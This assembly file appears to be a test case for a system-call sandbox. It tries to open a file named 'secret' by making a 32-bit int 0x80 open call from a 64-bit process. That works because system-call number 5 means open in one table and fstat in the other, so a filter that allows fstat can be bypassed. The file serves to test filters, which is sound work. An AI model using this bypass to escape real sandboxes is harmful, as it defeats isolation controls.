; attack: opens a file by a system call of the 32-bit kind
; works: run() is 1
; contained: signal SIGSYS or errno EACCES
; needs: a kernel with 32-bit system calls
;
; Number 5 is open for 32-bit programs and fstat for others, which every list
; allows. Here a path is put below 4 GiB, where such a call can see it.

%include "attack.inc"

LOW_PAGE        equ 0x10000000
MAP_FIXED       equ 0x10

    section .text
attack:
    mov     edi, LOW_PAGE
    mov     esi, 4096
    mov     edx, PROT_READ | PROT_WRITE
    mov     r10d, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED
    mov     r8, -1
    xor     r9d, r9d
    mov     eax, SYS_mmap
    syscall
    test    rax, rax
    js      outcome
    mov     rcx, "secret"
    mov     [rax], rcx
    mov     ebx, eax                    ; the path
    xor     ecx, ecx                    ; O_RDONLY
    mov     eax, SYS32_open
    int     0x80
    cdqe
    jmp     outcome

    section .note.GNU-stack noalloc noexec nowrite progbits
